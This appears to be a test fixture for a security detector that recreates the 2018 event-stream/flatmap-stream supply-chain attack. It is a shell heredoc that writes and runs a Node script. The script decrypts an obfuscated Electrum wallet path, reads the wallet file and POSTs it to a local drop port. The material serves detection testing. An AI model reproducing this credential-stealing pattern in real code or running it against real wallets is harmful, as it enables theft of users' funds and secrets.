# incident: event-stream / flatmap-stream (2018): an encrypted payload in a dependency takes wallets
# finding: credential-read
# needs: node
cat > index.js <<'JS'
const fs = require('fs'), os = require('os'), crypto = require('crypto'), http = require('http');
const key = crypto.createHash('md5').update('copay-dash').digest();
const hidden = crypto.createCipheriv('aes-128-ecb', key, null);
const blob = Buffer.concat([hidden.update('/.electrum/wallets/default_wallet'), hidden.final()]);
const open = crypto.createDecipheriv('aes-128-ecb', key, null);
const path = os.homedir() + Buffer.concat([open.update(blob), open.final()]).toString();
const wallet = fs.readFileSync(path);
http.request({host: '127.0.0.1', port: process.env.DROP_PORT, method: 'POST'}).end(wallet);
JS
node index.js
